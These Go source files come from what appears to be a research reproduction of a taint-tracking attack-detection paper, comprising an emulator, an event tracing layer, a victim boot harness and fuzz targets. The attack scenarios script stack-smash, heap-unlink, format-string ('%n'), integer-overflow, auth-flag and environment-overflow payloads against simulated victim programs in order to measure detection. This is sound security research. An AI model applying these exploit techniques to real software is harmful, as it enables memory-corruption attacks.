// flushPipe credits the batched base and stall cycles and restores the
// load-use hazard state that StepBlock tracks in locals.
func (c *CPU) flushPipe(cyc, stalls uint64, loadDst isa.Register) {
	c.pipe.cycles += cyc
	c.pipe.stallCycles += stalls
	c.pipe.loadDst = loadDst
}

// RunFast is Run on the predecoded basic-block fast path: identical
// semantics and observable machine state, lower per-instruction cost.
// Traced execution falls back to the reference interpreter so the trace
// stays per-instruction. Like Run it converts watchdog trips to
// *StepBudgetError, honors InjectAt at the same retired count as the
// reference interpreter (block chains are clamped at the trigger), and
// recovers host panics into structured errors.
func (c *CPU) RunFast(maxInstructions uint64) (err error) {
	defer c.recoverGuestFault(&err)
	for !c.halted {
		if maxInstructions > 0 && c.stats.Instructions >= maxInstructions {
			return &StepBudgetError{PC: c.pc, Steps: c.stats.Instructions}
		}
		if c.injectionDue() {
			c.fireInjection()
			continue
		}
		// An armed injection clamps the block budget so the chain breaks
		// exactly at the trigger's instruction boundary.
		limit := maxInstructions
		if c.injectFn != nil && (limit == 0 || c.injectAt < limit) {
			limit = c.injectAt
		}
		var serr error
		if c.tracer != nil {
			serr = c.Step()
		} else {
			serr = c.StepBlock(limit)
		}
		if serr != nil {
			if _, ok := serr.(*StepBudgetError); ok &&
				c.injectFn != nil && c.stats.Instructions >= c.injectAt &&
				(maxInstructions == 0 || c.stats.Instructions < maxInstructions) {
				continue // the clamp tripped at the injection trigger, not the budget
			}
			return serr
		}
	}
	if c.exitCode != 0 {
		return &ExitError{Code: c.exitCode}
	}
	return nil
}
