package cpu

import (
	"encoding/json"
	"fmt"
	"io"

	"repro/internal/isa"
	"repro/internal/prov"
	"repro/internal/taint"
)

// EventKind classifies a structured trace event.
type EventKind uint8

// Event kinds. The taint lifecycle events (EvInput, EvTaintBirth,
// EvPointerTaint) require provenance to be enabled — they carry labels;
// the rest fire whenever an event sink is attached.
const (
	// EvInstr is one retired instruction, emitted only while the text
	// tracer is active (SetTracer); Detail carries the rendered line.
	EvInstr EventKind = iota
	// EvInput marks an external input delivery: a taint source acquired a
	// fresh origin label (Addr/Label; Detail renders the origin).
	EvInput
	// EvTaintBirth marks a register acquiring taint from memory: a load
	// whose value was tainted (Reg, Addr, Label).
	EvTaintBirth
	// EvPointerTaint marks Table 1 propagation producing a tainted
	// result: the value in Reg now derives from tainted inputs (Label is
	// the merged label).
	EvPointerTaint
	// EvDerefCheck marks the dereference detector consulting a tainted
	// address or jump target — the moment the paper's Section 4.3 checks
	// run with a non-clean operand, whether or not they fire.
	EvDerefCheck
	// EvAlert marks a detector firing; the run ends with a SecurityAlert.
	EvAlert
	// EvSyscall marks a system-call trap (Value is the syscall number).
	EvSyscall
	// EvSnapshot marks a copy-on-write snapshot being taken of this
	// machine (campaign forks replay from here).
	EvSnapshot
)

// String returns the kind's wire name.
func (k EventKind) String() string {
	switch k {
	case EvInstr:
		return "instr"
	case EvInput:
		return "input"
	case EvTaintBirth:
		return "taint-birth"
	case EvPointerTaint:
		return "pointer-taint"
	case EvDerefCheck:
		return "deref-check"
	case EvAlert:
		return "alert"
	case EvSyscall:
		return "syscall"
	case EvSnapshot:
		return "snapshot"
	}
	return fmt.Sprintf("kind(%d)", uint8(k))
}

// Event is one structured trace record. Fields beyond Kind/Instrs/PC are
// populated per kind; zero values mean "not applicable".
type Event struct {
	Kind   EventKind
	Instrs uint64 // instructions retired before the event
	PC     uint32
	Addr   uint32 // memory address, for input/taint-birth events
	Reg    isa.Register
	Value  uint32
	Taint  taint.Vec
	Label  prov.Label
	Detail string
}

// EventSink collects events into a fixed-size ring buffer and optionally
// streams each one to subscribers. When the ring is full the oldest
// event is overwritten — recent history wins, and Dropped reports how
// many were lost. A capacity of zero keeps no ring (stream-only).
//
// The sink is single-machine state, as unsynchronized as the register
// file: campaign forks get their own machines and never share one.
type EventSink struct {
	buf     []Event
	total   uint64
	streams []func(Event)
}

// DefaultEventCap is the ring capacity used when none is given.
const DefaultEventCap = 4096

// NewEventSink returns a sink with the given ring capacity (<= 0 means
// no ring: events only reach stream subscribers).
func NewEventSink(capacity int) *EventSink {
	s := &EventSink{}
	if capacity > 0 {
		s.buf = make([]Event, 0, capacity)
	}
	return s
}

// Stream registers fn to receive every event as it is emitted, before it
// enters the ring. Subscribers run on the emitting goroutine — keep them
// cheap, and never let them touch the machine.
func (s *EventSink) Stream(fn func(Event)) { s.streams = append(s.streams, fn) }

// Emit records one event.
func (s *EventSink) Emit(e Event) {
	for _, fn := range s.streams {
		fn(e)
	}
	if cap(s.buf) > 0 {
		if len(s.buf) < cap(s.buf) {
			s.buf = append(s.buf, e)
		} else {
			s.buf[s.total%uint64(cap(s.buf))] = e
		}
	}
	s.total++
}

// Events returns the ring's contents oldest-first. The slice is freshly
// allocated; the ring keeps accumulating.
func (s *EventSink) Events() []Event {
	if cap(s.buf) == 0 || len(s.buf) < cap(s.buf) || s.total <= uint64(len(s.buf)) {
		return append([]Event(nil), s.buf...)
	}
	// Wrapped: the ring is full and s.total%cap is the oldest slot.
	out := make([]Event, 0, len(s.buf))
	start := s.total % uint64(cap(s.buf))
	out = append(out, s.buf[start:]...)
	out = append(out, s.buf[:start]...)
	return out
}

// Total reports how many events were emitted over the sink's lifetime.
func (s *EventSink) Total() uint64 { return s.total }

// Dropped reports how many emitted events the ring has overwritten.
func (s *EventSink) Dropped() uint64 {
	if cap(s.buf) == 0 || s.total <= uint64(cap(s.buf)) {
		return 0
	}
	return s.total - uint64(cap(s.buf))
}

// EnableEvents attaches an event sink with the given ring capacity (<= 0
// selects DefaultEventCap) and returns it; if a sink is already attached
// it is returned unchanged. Emission adds one nil check to the paths that
// can produce events; with no sink attached the machine is untouched.
func (c *CPU) EnableEvents(capacity int) *EventSink {
	if c.events == nil {
		if capacity <= 0 {
			capacity = DefaultEventCap
		}
		c.events = NewEventSink(capacity)
	}
	return c.events
}

// Events returns the attached event sink, or nil.
func (c *CPU) Events() *EventSink { return c.events }

// NoteSnapshot records an EvSnapshot event; the snapshot layer calls it
// when this machine is frozen as a fork origin.
func (c *CPU) NoteSnapshot() {
	if c.events == nil {
		return
	}
	c.events.Emit(Event{Kind: EvSnapshot, Instrs: c.stats.Instructions, PC: c.pc})
}

// emitSyscall records an EvSyscall event for the trap about to be
// handled; both engines call it with stats fully flushed.
func (c *CPU) emitSyscall() {
	c.events.Emit(Event{
		Kind:   EvSyscall,
		Instrs: c.stats.Instructions,
		PC:     c.pc,
		Reg:    isa.RegV0,
		Value:  c.regs[isa.RegV0],
	})
}

// eventJSON is the JSONL wire form of an Event.
type eventJSON struct {
	Kind   string `json:"kind"`
	Instrs uint64 `json:"instrs"`
	PC     string `json:"pc"`
	Addr   string `json:"addr,omitempty"`
	Reg    string `json:"reg,omitempty"`
	Value  string `json:"value,omitempty"`
	Taint  string `json:"taint,omitempty"`
	Label  uint32 `json:"label,omitempty"`
	Detail string `json:"detail,omitempty"`
}

func (e Event) wire() eventJSON {
	j := eventJSON{
		Kind:   e.Kind.String(),
		Instrs: e.Instrs,
		PC:     fmt.Sprintf("%#08x", e.PC),
		Label:  uint32(e.Label),
		Detail: e.Detail,
	}
	if e.Addr != 0 {
		j.Addr = fmt.Sprintf("%#08x", e.Addr)
	}
	if e.Reg != isa.RegZero {
		j.Reg = e.Reg.String()
		j.Value = fmt.Sprintf("%#x", e.Value)
	} else if e.Kind == EvSyscall {
		j.Value = fmt.Sprintf("%#x", e.Value)
	}
	if e.Taint != taint.None {
		j.Taint = e.Taint.String()
	}
	return j
}

// MarshalJSON renders the event in its JSONL wire form, so embedding an
// Event in any JSON document (the obs Chrome composer, flight records)
// matches the exported trace format exactly.
func (e Event) MarshalJSON() ([]byte, error) { return json.Marshal(e.wire()) }

// StreamJSONL returns a Stream subscriber that writes each event to w as
// one JSON line the moment it is emitted — the ptattack -trace hook.
// Encoding errors are swallowed (a broken pipe must not fault the guest).
func StreamJSONL(w io.Writer) func(Event) {
	enc := json.NewEncoder(w)
	return func(e Event) { _ = enc.Encode(e.wire()) }
}

// WriteEventsJSONL writes one JSON object per event, newline-delimited.
func WriteEventsJSONL(w io.Writer, evs []Event) error {
	enc := json.NewEncoder(w)
	for _, e := range evs {
		if err := enc.Encode(e.wire()); err != nil {
			return err
		}
	}
	return nil
}

// chromeEvent is one entry of the Chrome trace_event format
// (chrome://tracing, Perfetto): instant events on one synthetic thread,
// with the retired-instruction count standing in for microseconds.
type chromeEvent struct {
	Name  string    `json:"name"`
	Phase string    `json:"ph"`
	TS    uint64    `json:"ts"`
	PID   int       `json:"pid"`
	TID   int       `json:"tid"`
	Scope string    `json:"s,omitempty"`
	Args  eventJSON `json:"args"`
}

// WriteChromeTrace writes the events as a Chrome trace_event JSON
// document ({"traceEvents": [...]}) loadable in chrome://tracing.
func WriteChromeTrace(w io.Writer, evs []Event) error {
	doc := struct {
		TraceEvents []chromeEvent `json:"traceEvents"`
		Unit        string        `json:"displayTimeUnit"`
	}{TraceEvents: make([]chromeEvent, 0, len(evs)), Unit: "ns"}
	for _, e := range evs {
		doc.TraceEvents = append(doc.TraceEvents, chromeEvent{
			Name:  e.Kind.String(),
			Phase: "i",
			TS:    e.Instrs,
			PID:   1,
			TID:   1,
			Scope: "t",
			Args:  e.wire(),
		})
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(doc)
}
