package attack

import (
	"errors"
	"fmt"
	"strings"

	"repro/internal/cpu"
	"repro/internal/progs"
	"repro/internal/taint"
)

// mustProg fetches a corpus program by name; the names are compile-time
// constants, so a miss is a programming error surfaced as a clear failure.
func mustProg(name string) (progs.Program, error) {
	p, ok := progs.ByName(name)
	if !ok {
		return progs.Program{}, fmt.Errorf("program %q not in corpus", name)
	}
	return p, nil
}

// Exp1StackSmash is the paper's Section 5.1.1 stack overflow detection:
// 24 'a' characters into a 10-byte buffer taint the saved return address;
// the JR detector fires with the value 0x61616161.
func Exp1StackSmash(policy taint.Policy) (Outcome, error) {
	p, err := mustProg("exp1")
	if err != nil {
		return Outcome{}, err
	}
	m, err := Boot(p, Options{
		Policy: policy,
		Stdin:  []byte(strings.Repeat("a", 24) + "\n"),
	})
	if err != nil {
		return Outcome{}, err
	}
	out := classify(m.Run())
	if out.Crashed {
		// Without detection the tainted return address is consumed: the
		// control flow leaves the program — the hijack landed.
		out.Compromised = true
		out.Evidence = "control flow diverted to 0x61616161: " + out.Evidence
	}
	return out, nil
}

// exp2Payload overflows the 8-byte heap buffer across the adjacent free
// chunk: 12 filler bytes, a benign fake chunk header (in-use bit clear),
// then attacker fd/bk words. fd is 'dddd' (word-aligned as an address, so
// the corruption also lands when no detector stops it).
const exp2Payload = "aaaaaaaaaaaa" + "bbbb" + "dddd" + "hhhh"

// Exp2HeapCorruption is the Fig. 2 heap attack: free()'s unlink of the
// corrupted chunk dereferences the attacker's fd word.
func Exp2HeapCorruption(policy taint.Policy) (Outcome, error) {
	p, err := mustProg("exp2")
	if err != nil {
		return Outcome{}, err
	}
	m, err := Boot(p, Options{Policy: policy, Stdin: []byte(exp2Payload + "\n")})
	if err != nil {
		return Outcome{}, err
	}
	out := classify(m.Run())
	if !out.Detected && !out.Crashed {
		// The unlink write-primitive fired: the word at 0x6464646c
		// ('dddd'+8) was written through the attacker's fd (first with bk,
		// then again by the corrupted free-list insert).
		if w, _, err := m.Mem.LoadWord(0x6464646C); err == nil && w != 0 {
			out.Compromised = true
			out.Evidence = fmt.Sprintf("arbitrary write landed through attacker fd: [0x6464646c] = %#x", w)
		}
	}
	return out, nil
}

// Exp3FormatString is the Fig. 2 format-string attack over a socket: the
// %n directive dereferences the attacker's leading "abcd" (0x64636261).
// The number of %x directives needed to walk ap onto the marker depends on
// the victim's frame layout; CalibrateExp3 probes for it the way a real
// attacker probes a local copy of the binary.
func Exp3FormatString(policy taint.Policy) (Outcome, error) {
	payload, err := CalibrateExp3()
	if err != nil {
		return Outcome{}, err
	}
	return runExp3(policy, payload)
}

// CalibrateExp3 finds the %x walk distance that lands %n on the "abcd"
// marker, returning the full payload.
func CalibrateExp3() (string, error) {
	return calibrated("exp3", calibrateExp3)
}

func calibrateExp3() (string, error) {
	for k := 0; k <= 12; k++ {
		payload := "abcd" + strings.Repeat("%x", k) + "%n"
		out, err := runExp3(taint.PolicyPointerTaintedness, payload)
		if err != nil {
			return "", err
		}
		if out.Detected && out.Alert.Value == 0x64636261 {
			return payload, nil
		}
	}
	return "", fmt.Errorf("exp3 calibration failed: %%n never reached the marker")
}

func runExp3(policy taint.Policy, payload string) (Outcome, error) {
	p, err := mustProg("exp3")
	if err != nil {
		return Outcome{}, err
	}
	m, err := Boot(p, Options{Policy: policy, Budget: 20_000_000})
	if err != nil {
		return Outcome{}, err
	}
	if err := m.RunToBlock(); err != nil {
		return Outcome{}, fmt.Errorf("exp3 server did not reach accept: %w", err)
	}
	ep, err := m.Connect(9000)
	if err != nil {
		return Outcome{}, err
	}
	_, runErr := m.Transact(ep, payload)
	if runErr == nil {
		// Guest is waiting in a follow-up recv or exited cleanly; close
		// and let it finish.
		ep.Close()
		runErr = m.Run()
	}
	out := classify(runErr)
	if out.Crashed {
		out.Compromised = true
		out.Evidence = "format-string write reached 0x64636261: " + out.Evidence
	}
	return out, nil
}

// FNIntegerOverflowAttack is Table 4(A): input 4294967295 wraps to -1 and
// passes the flawed check; array[-1] silently overwrites the adjacent
// secret under every policy.
func FNIntegerOverflowAttack(policy taint.Policy) (Outcome, error) {
	p, err := mustProg("fn-intoverflow")
	if err != nil {
		return Outcome{}, err
	}
	m, err := Boot(p, Options{Policy: policy, Stdin: []byte("4294967295\n")})
	if err != nil {
		return Outcome{}, err
	}
	out := classify(m.Run())
	if out.Detected || out.Crashed {
		return out, nil
	}
	if strings.Contains(m.Kernel.Stdout(), "secret=1234") {
		out.Compromised = true
		out.Evidence = "out-of-bounds write: secret overwritten to 1234"
	}
	return out, nil
}

// FNAuthFlagAttack is Table 4(B): a wrong password followed by an overflow
// that flips the auth flag. No pointer is tainted; every policy grants
// access.
func FNAuthFlagAttack(policy taint.Policy) (Outcome, error) {
	p, err := mustProg("fn-authflag")
	if err != nil {
		return Outcome{}, err
	}
	for fill := 36; fill <= 72; fill += 4 {
		m, err := Boot(p, Options{
			Policy: policy,
			Stdin:  []byte("wrongpass\n" + strings.Repeat("a", fill) + "\n"),
		})
		if err != nil {
			return Outcome{}, err
		}
		out := classify(m.Run())
		if out.Detected || out.Crashed {
			return out, nil
		}
		if strings.Contains(m.Kernel.Stdout(), "access granted") {
			out.Compromised = true
			out.Evidence = fmt.Sprintf("auth flag overwritten (%d filler bytes): access granted without credentials", fill)
			return out, nil
		}
	}
	return Outcome{}, fmt.Errorf("auth-flag overflow never flipped the flag")
}

// FNInfoLeakAttack is Table 4(C): %x directives read the stack; the secret
// key appears in the output with no pointer dereference to detect.
func FNInfoLeakAttack(policy taint.Policy) (Outcome, error) {
	p, err := mustProg("fn-infoleak")
	if err != nil {
		return Outcome{}, err
	}
	for k := 1; k <= 40; k++ {
		m, err := Boot(p, Options{
			Policy: policy,
			Stdin:  []byte(strings.Repeat("%x.", k) + "\n"),
		})
		if err != nil {
			return Outcome{}, err
		}
		out := classify(m.Run())
		if out.Detected || out.Crashed {
			return out, nil
		}
		if strings.Contains(m.Kernel.Stdout(), "5ec2e7") {
			out.Compromised = true
			out.Evidence = fmt.Sprintf("secret key 0x5EC2E7 leaked with %d %%x directives", k)
			return out, nil
		}
	}
	return Outcome{}, fmt.Errorf("info leak never reached the secret")
}

// AnnotatedAuthFlagAttack replays the Table 4(B) overflow against the
// annotated victim (the paper's Section 5.3 extension): the overflow that
// silently flipped the flag is now caught when tainted bytes reach the
// annotated region.
func AnnotatedAuthFlagAttack(policy taint.Policy) (Outcome, error) {
	p, err := mustProg("fn-authflag-annotated")
	if err != nil {
		return Outcome{}, err
	}
	for fill := 36; fill <= 72; fill += 4 {
		m, err := Boot(p, Options{
			Policy: policy,
			Stdin:  []byte("wrongpass\n" + strings.Repeat("a", fill) + "\n"),
		})
		if err != nil {
			return Outcome{}, err
		}
		runErr := m.Run()
		var viol *cpu.WatchViolation
		if errors.As(runErr, &viol) {
			return Outcome{
				Detected: true,
				Evidence: viol.Error(),
			}, nil
		}
		out := classify(runErr)
		if out.Detected || out.Crashed {
			return out, nil
		}
		if strings.Contains(m.Kernel.Stdout(), "access granted") {
			out.Compromised = true
			out.Evidence = "annotation missed the overflow"
			return out, nil
		}
	}
	return Outcome{}, fmt.Errorf("annotated auth-flag attack never reached the flag")
}

// EnvOverflowAttack smashes a stack buffer through the TERM environment
// variable, exercising the paper's environment taint source: env strings
// are tainted at startup, so the clobbered return address trips the JR
// detector.
func EnvOverflowAttack(policy taint.Policy) (Outcome, error) {
	p, err := mustProg("envutil")
	if err != nil {
		return Outcome{}, err
	}
	// 16-byte buffer at $fp-24; filler to the saved ra, then an aligned
	// tainted jump target.
	for fill := 16; fill <= 48; fill += 4 {
		payload := strings.Repeat("e", fill) + wordBytes(0x65656564)
		m, err := Boot(p, Options{
			Policy: policy,
			Env:    []string{"PATH=/bin", "TERM=" + payload},
			Budget: 20_000_000,
		})
		if err != nil {
			return Outcome{}, err
		}
		out := classify(m.Run())
		if out.Detected && out.Alert.Kind == taint.AlertJumpTarget && out.Alert.Value == 0x65656564 {
			return out, nil
		}
		// Wrong offset: the target word hit the saved frame pointer or
		// other state. Keep probing; under a policy that cannot detect,
		// report the jump-diversion crash when the offset is right.
		if out.Crashed && strings.Contains(out.Evidence, "0x65656564") {
			out.Compromised = true
			out.Evidence = "control flow diverted via environment data: " + out.Evidence
			return out, nil
		}
	}
	return Outcome{}, fmt.Errorf("env overflow never reached the return address")
}
