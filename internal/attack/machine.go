// Package attack drives the paper's attack scenarios against the program
// corpus: it boots a victim program on the taint-tracking machine, plays
// the attacker over the simulated network / stdin / argv, and reports
// whether the detection policy fired, what the alert said, and — when the
// policy missed — whether the compromise actually landed. It is the engine
// behind the Section 5.1 evaluation (Fig. 2 detections, Table 2, and the
// §5.1.2 coverage matrix).
package attack

import (
	"errors"
	"fmt"
	"io"

	"repro/internal/asm"
	"repro/internal/cache"
	"repro/internal/core"
	"repro/internal/cpu"
	"repro/internal/kernel"
	"repro/internal/mem"
	"repro/internal/metrics"
	"repro/internal/netsim"
	"repro/internal/progs"
	"repro/internal/taint"
)

// DefaultBudget bounds one victim run. It is the same envelope every
// entry point shares (core.DefaultContainment), not a per-package number.
const DefaultBudget = core.DefaultBudget

// DefaultMemLimit bounds one victim's resident guest memory (256 MiB —
// far above any corpus program's footprint, low enough that a runaway
// guest cannot exhaust the host). Shared via core.DefaultContainment.
const DefaultMemLimit = core.DefaultMemLimit

// ForceContainment, when non-nil, replaces the default budget and memory
// limit for every machine booted with zero Options values — how a CLI's
// -budget/-mem-limit flags reach scenario Prepare functions that boot
// internally (the ForceReference pattern; set before booting, never while
// a campaign boots concurrently).
var ForceContainment *core.Containment

// ForceReference disables the predecoded basic-block fast path for every
// machine booted while it is set — the ptexperiments -fast=false escape
// hatch and the toggle the differential harness flips to cross-check the
// two interpreters.
var ForceReference bool

// ForceProvenance enables taint-provenance tracking (per-word origin
// labels and alert chain reconstruction) on every machine booted while it
// is set — the toggle ptattack/ptexperiments/pttrace flip so scenario
// Prepare functions, which boot internally, inherit it.
var ForceProvenance bool

// ForceEventWriter, when non-nil, streams every structured trace event of
// every machine booted while it is set to the writer as JSONL — the
// ptattack -trace hook. Single-run debugging only: subscribers run on the
// emitting goroutine unsynchronized, so it must never be set while a
// parallel campaign boots machines.
var ForceEventWriter io.Writer

// Machine is one booted victim instance.
type Machine struct {
	Image  *asm.Image
	Kernel *kernel.Kernel
	CPU    *cpu.CPU
	Mem    *mem.Memory
	Caches *cache.Hierarchy // nil without Options.WithCache

	budget    uint64
	reference bool
}

// Options configures a victim boot.
type Options struct {
	Policy taint.Policy
	Prop   taint.Propagator
	Args   []string // argv[1:]; argv[0] is the program name
	Env    []string
	Stdin  []byte
	Files  map[string][]byte // preloaded filesystem contents
	Budget uint64
	// MemLimit caps resident guest memory in bytes (default
	// DefaultMemLimit; negative disables the cap). Exceeding it surfaces
	// as a *mem.LimitError from Run, never as a host allocation.
	MemLimit int
	// WithCache interposes the default L1/L2 hierarchy between the CPU and
	// memory, so taint bits travel through cache lines (Section 4.1).
	WithCache bool
	// Reference forces the classic one-instruction Step interpreter
	// instead of the predecoded basic-block fast path. The two are
	// behaviourally identical (internal/cpu/differential_test.go); the
	// reference path exists for cross-checking and debugging.
	Reference bool
	// Provenance enables taint-provenance tracking: every external input
	// byte gets an origin label, Table 1 propagation merges labels, and a
	// SecurityAlert carries the chain back to the exact syscall input.
	// Requires flat memory (incompatible with WithCache).
	Provenance bool
}

// Boot compiles and loads a corpus program under the given options.
func Boot(p progs.Program, opts Options) (*Machine, error) {
	im, err := p.Build()
	if err != nil {
		return nil, fmt.Errorf("build %s: %w", p.Name, err)
	}
	return BootImage(p.Name, im, opts)
}

// BootImage loads a prebuilt image under the given options. Boot-time
// panics (a malformed image whose load trips the memory limit, say) are
// recovered into errors — booting untrusted images must not take the
// host down.
func BootImage(name string, im *asm.Image, opts Options) (machine *Machine, err error) {
	defer func() {
		if r := recover(); r != nil {
			machine, err = nil, fmt.Errorf("boot %s: %v", name, r)
		}
	}()
	defBudget, defMem := uint64(DefaultBudget), DefaultMemLimit
	if ForceContainment != nil {
		if ForceContainment.Budget != 0 {
			defBudget = ForceContainment.Budget
		}
		if ForceContainment.MemLimit != 0 {
			defMem = ForceContainment.MemLimit
		}
	}
	k := kernel.New()
	m := mem.New()
	switch {
	case opts.MemLimit > 0:
		m.SetResidentLimit(opts.MemLimit)
	case opts.MemLimit == 0 && defMem > 0:
		m.SetResidentLimit(defMem)
	}
	var bus cpu.Bus = m
	var hier *cache.Hierarchy
	if opts.WithCache {
		var err error
		hier, err = cache.NewDefaultHierarchy(m)
		if err != nil {
			return nil, fmt.Errorf("cache hierarchy: %w", err)
		}
		bus = hier
	}
	c := cpu.New(cpu.Config{
		Bus:     bus,
		Policy:  opts.Policy,
		Prop:    opts.Prop,
		Handler: k,
		Image:   im,
	})
	c.LoadImage(m, im)
	k.SetBreak(im.DataEnd)
	// Provenance must be live before SetArgs so the boot-time taint
	// sources (argv/env bytes) get origin labels too.
	if opts.Provenance || ForceProvenance {
		if err := c.EnableProvenance(); err != nil {
			return nil, fmt.Errorf("boot %s: %w", name, err)
		}
	}
	if ForceEventWriter != nil {
		c.EnableEvents(0).Stream(cpu.StreamJSONL(ForceEventWriter))
	}
	k.SetArgs(c, append([]string{name}, opts.Args...), opts.Env)
	if opts.Stdin != nil {
		k.SetStdin(opts.Stdin)
	}
	for path, data := range opts.Files {
		k.FS.WriteFile(path, data)
	}
	reference := opts.Reference || ForceReference
	if !reference && !DisableStatic {
		// Install the static analyzer's provably-clean facts so the fast
		// path can skip runtime taint checks the analysis discharged.
		// The reference interpreter never consumes facts — it remains the
		// independent oracle the differential harness compares against.
		if facts := staticFactsFor(im, opts.Prop); facts != nil {
			c.SetStaticFacts(facts)
		}
	}
	budget := opts.Budget
	if budget == 0 {
		budget = defBudget
	}
	return &Machine{
		Image: im, Kernel: k, CPU: c, Mem: m, Caches: hier,
		budget:    budget,
		reference: reference,
	}, nil
}

// Metrics aggregates every subsystem's counters into one metrics
// snapshot — the machine-wide observability view campaign workers capture
// per session and merge deterministically.
func (m *Machine) Metrics() metrics.Snapshot {
	r := metrics.New()
	m.CPU.FillMetrics(r)
	m.Mem.FillMetrics(r)
	m.Kernel.FillMetrics(r)
	if m.Caches != nil {
		m.Caches.FillMetrics(r)
	}
	return r.Snapshot()
}

// Sync flushes dirty cache lines to memory so host-side inspection of Mem
// sees the guest's latest state.
func (m *Machine) Sync() {
	if m.Caches != nil {
		m.Caches.FlushAll()
	}
}

// Run executes until the guest exits, blocks on I/O, faults, or alerts.
// A clean exit returns nil; a block returns *kernel.BlockedError.
func (m *Machine) Run() error {
	if m.reference {
		return m.CPU.Run(m.budget)
	}
	return m.CPU.RunFast(m.budget)
}

// SetBudget overrides the per-Run instruction budget. Fault campaigns
// tighten it per fork — a calibrated multiple of the control session's
// length — so a wedged injection trips the watchdog quickly instead of
// burning the full default budget.
func (m *Machine) SetBudget(n uint64) {
	if n == 0 {
		n = DefaultBudget
	}
	m.budget = n
}

// Budget returns the current per-Run instruction budget.
func (m *Machine) Budget() uint64 { return m.budget }

// RunToBlock runs and requires the guest to block (a server waiting for
// the attacker); any other outcome is returned as an error.
func (m *Machine) RunToBlock() error {
	err := m.Run()
	var blocked *kernel.BlockedError
	if errors.As(err, &blocked) {
		return nil
	}
	if err == nil {
		return errors.New("guest exited instead of blocking")
	}
	return err
}

// Connect opens an attacker connection to a guest port.
func (m *Machine) Connect(port uint16) (*netsim.Endpoint, error) {
	return m.Kernel.Net.Connect(port)
}

// Transact sends input on ep, resumes the guest until it blocks again (or
// terminates), and returns everything the guest wrote to the connection.
// err is nil while the guest is merely waiting for more input.
func (m *Machine) Transact(ep *netsim.Endpoint, input string) (string, error) {
	if input != "" {
		ep.SendString(input)
	}
	err := m.Run()
	var blocked *kernel.BlockedError
	if errors.As(err, &blocked) {
		err = nil
	}
	return ep.RecvString(), err
}

// Symbol resolves a program symbol, failing loudly when missing.
func (m *Machine) Symbol(name string) (uint32, error) {
	a, ok := m.Image.Symbols[name]
	if !ok {
		return 0, fmt.Errorf("symbol %q not in image", name)
	}
	return a, nil
}

// Outcome classifies one attack run.
type Outcome struct {
	// Detected is true when the policy raised a security alert.
	Detected bool
	// Alert holds the alert when Detected.
	Alert *cpu.SecurityAlert
	// Crashed is true when the victim died on a machine fault (a hijack
	// attempt that went off the rails rather than being detected).
	Crashed bool
	// Fault holds the fault when Crashed.
	Fault *cpu.Fault
	// Compromised is true when the attack's goal state was verified
	// (privilege escalated, policy bypassed, memory corrupted).
	Compromised bool
	// TimedOut is true when containment ended the run: the step-budget
	// watchdog tripped, the guest hit its resident-memory limit, or a
	// host panic was recovered at the machine boundary — a runaway or
	// wedged guest, not a verdict about the attack itself.
	TimedOut bool
	// Evidence describes the verified compromise or the alert.
	Evidence string
}

// Classify folds a terminal run error into an Outcome. It is the single
// decoder of the machine's error taxonomy: security alerts → Detected,
// architectural faults and recovered host panics → Crashed, containment
// trips (step budget, memory limit) → TimedOut.
func Classify(err error) Outcome {
	var out Outcome
	var alert *cpu.SecurityAlert
	var fault *cpu.Fault
	var budget *cpu.StepBudgetError
	var memLimit *mem.LimitError
	var guest *cpu.GuestFault
	switch {
	case errors.As(err, &alert):
		out.Detected = true
		out.Alert = alert
		out.Evidence = alert.Error()
	case errors.As(err, &fault):
		out.Crashed = true
		out.Fault = fault
		out.Evidence = fault.Error()
	case errors.As(err, &budget), errors.As(err, &memLimit):
		out.TimedOut = true
		out.Evidence = err.Error()
	case errors.As(err, &guest):
		out.Crashed = true
		out.Evidence = guest.Error()
	}
	return out
}

// classify is the package-internal spelling kept for the scenario code.
func classify(err error) Outcome { return Classify(err) }

// String renders the outcome for experiment tables.
func (o Outcome) String() string {
	switch {
	case o.Detected:
		return "DETECTED: " + o.Evidence
	case o.Compromised:
		return "COMPROMISED: " + o.Evidence
	case o.Crashed:
		return "CRASHED: " + o.Evidence
	case o.TimedOut:
		return "TIMEOUT: " + o.Evidence
	default:
		return "no effect"
	}
}
