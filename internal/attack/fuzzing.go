package attack

// This file defines the input surfaces the coverage-guided fuzzer
// (internal/fuzz, cmd/ptfuzz) mutates. Each InputTarget pairs a scenario's
// snapshot point with a Play function that delivers ONE arbitrary byte
// string where the scripted attack delivers its payload — stdin for the
// Fig. 2 synthetic victims, an authenticated FTP command line for wu-ftpd
// — and classifies what the detection mechanism did about it. The seeds
// are deliberately benign: rediscovering the scripted attacks' alert
// fingerprints from them is the fuzzer's whole acceptance test.

// InputTarget is one fuzzable input surface.
type InputTarget struct {
	// Scenario supplies the name, the snapshot-point Prepare, and the
	// scripted attack Session whose alert fingerprint the fuzzer tries to
	// rediscover from benign seeds.
	Scenario Scenario
	// Seeds are the benign corpus the fuzzer starts from. None of them
	// trigger a detector; each exercises the input path end to end.
	Seeds [][]byte
	// Dict holds protocol tokens for the mutator's dictionary stage
	// (command verbs, format directives). Nil for raw byte streams.
	Dict [][]byte
	// MaxLen bounds generated inputs, in bytes.
	MaxLen int
	// Play delivers input to a machine forked from the snapshot point and
	// classifies the run. It must be deterministic in (snapshot, input).
	Play func(m *Machine, input []byte) (Outcome, error)
}

// InputTargets lists the fuzzable surfaces in stable order.
func InputTargets() []InputTarget {
	var targets []InputTarget
	for _, s := range Scenarios() {
		switch s.Name {
		case "exp1-stack":
			targets = append(targets, InputTarget{
				Scenario: s,
				Seeds: [][]byte{
					[]byte("hi\n"),
					[]byte("benign\n"),
				},
				MaxLen: 64,
				Play:   playStdin,
			})
		case "exp2-heap":
			targets = append(targets, InputTarget{
				Scenario: s,
				// Both seeds fit the 8-byte heap buffer: no overflow, no
				// free-chunk header corruption.
				Seeds: [][]byte{
					[]byte("ok\n"),
					[]byte("abcde\n"),
				},
				MaxLen: 64,
				Play:   playStdin,
			})
		case "wuftpd-site-exec":
			targets = append(targets, InputTarget{
				Scenario: s,
				Seeds: [][]byte{
					[]byte("SITE EXEC hello"),
					[]byte("HELP"),
					[]byte("PWD"),
					[]byte("CWD /tmp"),
				},
				Dict: [][]byte{
					[]byte("SITE EXEC "),
					[]byte("USER "),
					[]byte("PASS "),
					[]byte("CWD "),
					[]byte("STOR "),
					[]byte("%x"),
					[]byte("%n"),
					[]byte("%s"),
					[]byte("%d"),
				},
				MaxLen: 128,
				Play:   playFTPCommand,
			})
		}
	}
	return targets
}

// InputTargetByName looks up a fuzzable surface by scenario name.
